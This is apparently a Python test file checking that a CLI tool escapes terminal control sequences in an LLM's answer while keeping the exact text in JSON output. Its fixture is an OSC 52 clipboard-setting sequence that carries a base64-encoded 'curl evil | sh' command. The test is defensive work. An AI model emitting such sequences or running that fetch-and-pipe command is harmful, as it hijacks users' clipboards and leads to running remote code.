"""The model's text reaches the terminal shown, never obeyed: escape sequences in it are made visible."""

from __future__ import annotations

import json
from pathlib import Path

from tests.support.cli import run_hive
from tests.support.llm_server import LLMServer, text

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
"""OSC 52: sets the terminal's clipboard (to ``curl evil | sh``)."""


def test_an_osc_sequence_in_the_answer_is_shown_escaped_in_text_and_kept_in_json(
    llm_server: LLMServer, tmp_path: Path
) -> None:
    answer = f"Here is the fix.{CLIPBOARD}\tDone.\n"
    llm_server.script(text(answer), text(answer))
    flags = ["--model", "openai/test-model", "--api-base", llm_server.base_url, "-C", str(tmp_path)]

    shown = run_hive("run", "fix it", *flags)
    as_json = run_hive("run", "fix it", "-o", "json", *flags)

    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout
    assert "Here is the fix.\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\tDone." in shown.stdout
    assert json.loads(as_json.stdout)["text"] == answer  # JSON escapes it already, and keeps the exact text
